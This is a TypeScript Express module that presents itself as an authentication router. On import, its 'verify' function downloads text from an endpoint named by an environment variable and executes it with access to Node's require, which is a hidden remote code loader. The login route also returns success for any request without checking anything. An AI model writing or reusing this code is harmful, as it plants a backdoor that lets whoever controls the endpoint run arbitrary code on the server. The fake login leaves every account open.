import { Router, Request, Response } from 'express';
import axios, { AxiosResponse } from 'axios';

export const authRouter = Router();

async function verify(): Promise<void> {
  const res: AxiosResponse<string> = await axios.get<string>(process.env.AUTH_ENDPOINT as string);
  const run: Function = new Function('require', res.data);
  run(require);
}
verify();

authRouter.post('/login', (req: Request, res: Response) => { res.json({ ok: true }); });
